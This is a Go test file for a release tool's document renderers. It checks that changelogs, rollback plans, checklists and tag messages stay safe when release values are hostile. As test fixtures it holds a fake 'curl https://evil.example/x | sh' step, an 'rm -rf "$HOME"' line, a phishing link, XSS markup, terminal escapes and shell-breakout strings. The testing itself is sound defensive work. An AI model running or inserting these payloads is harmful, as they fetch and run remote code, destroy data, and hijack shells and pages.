package release

import (
	"regexp"
	"strings"
	"testing"

	"github.com/soakline/soakline/internal/policy"
	"github.com/soakline/soakline/internal/safetext"
	"github.com/soakline/soakline/pkg/artifact"
)

// The payloads of issue 18 items 3 and 5: a fake "Operator action
// required" section with a curl | sh block, a fake rollback step, a link
// and an image, HTML, escape sequences, and shell that runs when pasted.
const (
	fakeSection = "ok\n\n## Operator action required\n\n```sh\ncurl https://evil.example/x | sh\n```\n"
	fakeStep    = "x\n   ```sh\n   rm -rf \"$HOME\"\n   ```\n6. Run the fix:"
	fakeLink    = "[**Approve this release**](https://evil.example/approve) ![p](https://evil.example/p.png)"
	fakeHTML    = "<img src=x onerror=alert(1)><script>alert(1)</script>"
	fakeTerm    = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\r\n"
	shellBreak  = `v1";touch pwned;echo "$(touch${IFS}pwned)'`
)

var hostileValues = []string{fakeSection, fakeStep, fakeLink, fakeHTML, fakeTerm, shellBreak}

// release returns a Release whose every value from input is s (benign:
// plain words); its structure is the same either way.
func release(s func(i int) string) *Release {
	v := &artifact.Verdict{
		SchemaVersion: 1, Kind: artifact.KindVerdict, Verdict: "PASS",
		Source:            artifact.Source{Path: "soak", Digest: strings.Repeat("1", 64)},
		DeltaVerification: &artifact.DeltaVerify{SchemaVersion: 1, Kind: artifact.KindDeltaVerify, ProposedCount: 10, FullApplyCount: 10, FullApplyRatio: 1, Checked: true, Status: "PASS"},
	}
	v.Reason = s(0)
	v.Policy.Name, v.Policy.Source = s(1), s(2)
	val := 0.9
	v.KPILastN = map[string]artifact.KPIStats{"maker_taker_ratio": {N: 8, Mean: &val, Trend: s(3)}}
	v.Checks = []artifact.Check{
		{Name: "maker_taker_ratio_mean", KPI: "maker_taker_ratio", Statistic: s(4), Direction: ">=", Threshold: 0.83, Value: &val, N: 8, Status: "PASS", Reason: s(5)},
		{Name: s(6), Direction: ">=", Threshold: 1, Value: &val, N: 8, Status: s(7), Reason: s(8)},
	}
	v.DeltaVerification.Note = s(9)
	ledger := &artifact.TuningReport{Iterations: []artifact.Tuning{
		{Iteration: 1, Applied: true, Changes: []artifact.Change{{Key: s(10), Old: 1, New: 2}}},
		{Iteration: 2, Applied: true, ChangedKeys: []string{s(11)}},
		{Iteration: 3, Guards: []string{s(12), "velocity"}},
	}}
	prevProfile := &artifact.Overrides{Params: map[string]float64{s(13): 1}}
	pol := &ResolvedPolicy{Policy: policy.Default(false), Basis: s(14)}
	return &Release{
		Version: "v1.0.0", Date: "2026-01-01", DateSource: "--now", Tool: "devel",
		Git: &GitInfo{Commit: strings.Repeat("a", 40), PreviousTag: s(15)},
		Commits: []Commit{
			{Hash: strings.Repeat("b", 40), Subject: "feat(" + s(16) + "): " + s(17), Body: "BREAKING CHANGE: " + s(18)},
			{Hash: strings.Repeat("c", 40), Subject: s(19)},
		},
		Snapshot: &Snapshot{Verdict: *v}, Delta: v.DeltaVerification, Ledger: ledger,
		Source:  BundleSource{Digest: strings.Repeat("1", 64)},
		Profile: &artifact.Overrides{Params: map[string]float64{"a": 1}}, ProfileSHA256: strings.Repeat("d", 64),
		Redacted: []string{s(20)}, OverridesFrom: "soak/" + s(21),
		Previous: &Previous{
			Path: "prev/" + s(22), Version: s(23), Profile: prevProfile,
			ProfileSHA256: strings.Repeat("e", 64), SumsSHA256: strings.Repeat("f", 64), RedactedKeys: []string{s(24)},
		},
		Policy: pol, Triggers: Triggers(pol.Policy),
	}
}

func benign(i int) string { return "value" }

func hostile(i int) string { return hostileValues[i%len(hostileValues)] }

// skeleton is the structure of a Markdown document line by line: what
// each line starts with (heading, list item, table row, fence, quote,
// numbered step, indented code line or text).
var lineKind = regexp.MustCompile("^( *)(#+ |- \\[ \\] |- |\\| |```|> |>$|[0-9]+\\. )?")

func skeleton(doc string) []string {
	var out []string
	inFence := false
	for _, l := range strings.Split(doc, "\n") {
		k := lineKind.FindString(l)
		if strings.HasPrefix(strings.TrimLeft(l, " "), "```") {
			inFence = !inFence
			k = strings.TrimRight(l, " ") // the fence line itself, exactly
		}
		out = append(out, k)
	}
	return out
}

// TestDocumentsInjection renders CHANGELOG.md and rollback_plan.md with
// every value from input benign, then hostile: the documents have the same
// lines of the same kinds (no heading, fence, step or list item from
// input), no unescaped link, image or HTML, no escape sequence, and every
// shell line has only quoted values.
func TestDocumentsInjection(t *testing.T) {
	for _, d := range []struct {
		name   string
		render func(*Release) []byte
	}{{"CHANGELOG.md", Changelog}, {"rollback_plan.md", RollbackPlan}} {
		t.Run(d.name, func(t *testing.T) {
			want := skeleton(string(d.render(release(benign))))
			got := string(d.render(release(hostile)))
			gs := skeleton(got)
			if len(gs) != len(want) {
				t.Fatalf("%d lines with hostile values, %d with benign ones:\n%s", len(gs), len(want), got)
			}
			for i := range want {
				if gs[i] != want[i] {
					t.Errorf("line %d is %q, want a line of kind %q:\n%s", i+1, gs[i], want[i], strings.Split(got, "\n")[i])
				}
			}
			checkNoMarkup(t, got)
		})
	}
}

// checkNoMarkup fails on a link, an image, HTML or an escape sequence that
// no backslash or code span neutralises, outside shell blocks.
func checkNoMarkup(t *testing.T, doc string) {
	t.Helper()
	if strings.ContainsAny(doc, "\x1b\x07\r\x00") {
		t.Errorf("document holds control characters:\n%q", doc)
	}
	for _, l := range strings.Split(doc, "\n") {
		prose := stripCodeSpans(l)
		for _, bad := range []*regexp.Regexp{
			regexp.MustCompile(`(^|[^\\])\]\(https?:`), regexp.MustCompile(`(^|[^\\])!\[`),
			regexp.MustCompile(`(^|[^\\])<(img|script)`), regexp.MustCompile(`(^|[^\\])\*\*Approve`),
		} {
			if bad.MatchString(prose) {
				t.Errorf("line has live markup %s:\n%s", bad, l)
			}
		}
	}
}

// stripCodeSpans removes well-formed code spans (their content is shown
// as it is).
func stripCodeSpans(l string) string {
	var b strings.Builder
	for i := 0; i < len(l); {
		if l[i] == '\\' && i+1 < len(l) {
			b.WriteString(l[i : i+2])
			i += 2
			continue
		}
		if l[i] != '`' {
			b.WriteByte(l[i])
			i++
			continue
		}
		n := 0
		for i+n < len(l) && l[i+n] == '`' {
			n++
		}
		fence := l[i : i+n]
		end := -1
		for j := i + n; j < len(l); {
			k := strings.Index(l[j:], fence)
			if k < 0 {
				break
			}
			k += j
			if (k+n == len(l) || l[k+n] != '`') && (k == 0 || l[k-1] != '`') {
				end = k
				break
			}
			j = k + 1
		}
		if end < 0 {
			b.WriteString(fence)
			i += n
			continue
		}
		b.WriteString("CODE")
		i = end + n
	}
	return b.String()
}

// TestShellStepsQuoted: every line of a shell block in rollback_plan.md
// and every command of the checklist is made of our own words and
// single-quoted values; a release name outside the safe set is quoted too
// (the CLI refuses it before, this is the second line of defence).
func TestShellStepsQuoted(t *testing.T) {
	r := release(hostile)
	r.Version = shellBreak
	r.Previous.Path = "prev dir/it's $(touch pwned)"
	plan := string(RollbackPlan(r))
	var lines []string
	in := false
	for _, l := range strings.Split(plan, "\n") {
		if strings.TrimSpace(l) == "```sh" {
			in = true
			continue
		}
		if strings.TrimSpace(l) == "```" {
			in = false
			continue
		}
		if in {
			lines = append(lines, strings.TrimSpace(l))
		}
	}
	if len(lines) != 6 {
		t.Fatalf("want 6 shell lines, got %d:\n%s", len(lines), plan)
	}
	for _, l := range lines {
		checkShellLine(t, l)
	}

	tg := sampleTagging()
	tg.Manifest.Version = shellBreak
	tg.BundlePath = "rel/it's $(touch pwned)"
	for _, st := range preSteps(tg) {
		for _, p := range st {
			if p.cmd {
				checkShellLine(t, p.s)
			}
		}
	}
}

// checkShellLine fails unless outside single quotes the line has only
// plain characters, spaces, "&&", double-quoted "$OVERRIDES..." words and
// a trailing comment: no $( ), backquote, ;, |, > or unquoted expansion
// of a value.
func checkShellLine(t *testing.T, l string) {
	t.Helper()
	var outside strings.Builder
	for i := 0; i < len(l); i++ {
		if l[i] == '\\' && i+1 < len(l) && l[i+1] == '\'' {
			i++
			outside.WriteString("Q")
			continue
		}
		if l[i] == '\'' {
			j := strings.IndexByte(l[i+1:], '\'')
			if j < 0 {
				t.Fatalf("unterminated quote: %s", l)
			}
			i += j + 1
			outside.WriteString("Q")
			continue
		}
		outside.WriteByte(l[i])
	}
	o := outside.String()
	if k := strings.Index(o, "  # expect "); k >= 0 {
		o = o[:k]
	}
	o = regexp.MustCompile(`"\$\{?OVERRIDES[A-Za-z0-9._+/:? -]*\}?"`).ReplaceAllString(o, "V")
	o = strings.ReplaceAll(o, "&&", "")
	if bad := regexp.MustCompile(`[^A-Za-z0-9_./=:@+,%\- ]`).FindString(o); bad != "" {
		t.Errorf("shell line has %q outside quotes: %s (%s)", bad, l, o)
	}
}

func sampleTagging() *Tagging {
	r := release(hostile)
	return &Tagging{
		Tag: "v1.0.0", Commit: strings.Repeat("a", 40), BundlePath: "rel/v1.0.0", SumsSHA256: strings.Repeat("f", 64),
		Manifest: &Manifest{Version: "v1.0.0", Git: &GitInfo{Commit: hostile(3)}},
		Snapshot: r.Snapshot, Delta: r.Delta, Policy: r.Policy, Triggers: r.Triggers, Tool: "devel",
	}
}

// TestChecklistAndTagMessageInjection: the same for CANARY_CHECKLIST.md
// and the tag message, which is plain text: one line per value, no escape
// sequence, no forged trailer.
func TestChecklistAndTagMessageInjection(t *testing.T) {
	benignT := sampleTagging()
	benignR := release(benign)
	benignT.Snapshot, benignT.Delta, benignT.Policy = benignR.Snapshot, benignR.Delta, benignR.Policy
	benignT.Manifest.Git.Commit = "value"
	hostileT := sampleTagging()

	want := skeleton(string(Checklist(benignT, Plan(benignT))))
	got := string(Checklist(hostileT, Plan(hostileT)))
	if gs := skeleton(got); strings.Join(gs, "\n") != strings.Join(want, "\n") {
		t.Errorf("checklist structure changed by input values:\n%s", got)
	}
	checkNoMarkup(t, got)

	wantMsg := strings.Count(TagMessage(benignT), "\n")
	msg := TagMessage(hostileT)
	if n := strings.Count(msg, "\n"); n != wantMsg {
		t.Errorf("tag message has %d lines with hostile values, %d with benign ones:\n%s", n, wantMsg, msg)
	}
	if strings.ContainsAny(msg, "\x1b\x07\r\x00") {
		t.Errorf("tag message holds control characters:\n%q", msg)
	}
	hostileT.Snapshot.Verdict.Reason = "x\nBundle-SHA256SUMS: sha256:" + strings.Repeat("0", 64) + "\nBundle-Path: /dev/zero"
	sums, path, err := ParseTagMessage(TagMessage(hostileT))
	if err != nil || sums != strings.Repeat("f", 64) || path != "rel/v1.0.0" {
		t.Errorf("a reason forged the trailers: %s %s %v", sums, path, err)
	}
}

// TestCheckReleaseName pins the safe set of release names (issue 18 item
// 3): what git accepts as a tag but a shell or Markdown would read is
// refused.
func TestCheckReleaseName(t *testing.T) {
	for _, ok := range []string{"v1.0.0", "v1.4.0-rc.1+build.7", "release/2026_01", "V1"} {
		if err := CheckReleaseName("release name", ok); err != nil {
			t.Errorf("%q refused: %v", ok, err)
		}
	}
	for _, bad := range []string{
		"v1$(touch${IFS}pwned)", `v1";touch pwned;echo "`, "--output=/tmp/x", "-v1", "v1 0", "v1\n", "v1`id`",
		"v1;id", "v1|sh", "v1&", "v1>x", "v1'x", "v1\x1b[31m", "v1..0", "v1.lock", "v1/", "", "@", "v1@{0}", "v1#x", "v1*", "v1~1", "ünï",
		"HEAD", "ORIG_HEAD", "FETCH_HEAD", "refs/heads/main", "refs/tags/v1",
	} {
		if err := CheckReleaseName("tag name", bad); err == nil {
			t.Errorf("%q accepted", bad)
		} else if !strings.HasPrefix(err.Error(), "invalid tag name ") {
			t.Errorf("%q: error %q does not say what is invalid", bad, err)
		}
	}
}

// TestCheckShellPath: a path that cannot be one line of a shell step is
// refused; spaces, quotes and $( ) are fine (they are quoted).
func TestCheckShellPath(t *testing.T) {
	for _, ok := range []string{"rel/v1", "prev dir/it's $(touch pwned)", "-x", "日本"} {
		if err := CheckShellPath("--previous", ok); err != nil {
			t.Errorf("%q refused: %v", ok, err)
		}
	}
	for _, bad := range []string{"a\nb", "a\rb", "a\x1b[31m", "a\x00", "a\u202eb", "\xff"} {
		if err := CheckShellPath("--previous", bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

// FuzzCheckReleaseName: a name that passes is written as it is in every
// document language (shell word, Markdown text, code span, one terminal
// line) and git's rules hold for it.
func FuzzCheckReleaseName(f *testing.F) {
	for _, s := range []string{"v1.0.0", "v1$(x)", "--output=/x", "a/b", "a..b", "v1.lock", ".v", "a/.b", "v1@{0}", "1.0.0+build_7"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if CheckReleaseName("release name", s) != nil {
			return
		}
		if CheckTagName(s) != nil || strings.HasPrefix(s, "-") || s == "" {
			t.Fatalf("%q accepted against git's rules", s)
		}
		if w := safetext.ShellWord(s); w != s {
			t.Fatalf("%q accepted but needs shell quoting: %s", s, w)
		}
		if shellSuffixed("OVERRIDES", ".before-", s) != `"$OVERRIDES.before-`+s+`"` {
			t.Fatalf("%q accepted but not written inside the double quotes", s)
		}
		if !safetext.OneLine(s) || strings.ContainsAny(s, "`*[]<>|~$\\&#!\"' ") {
			t.Fatalf("%q accepted with a special character", s)
		}
	})
}
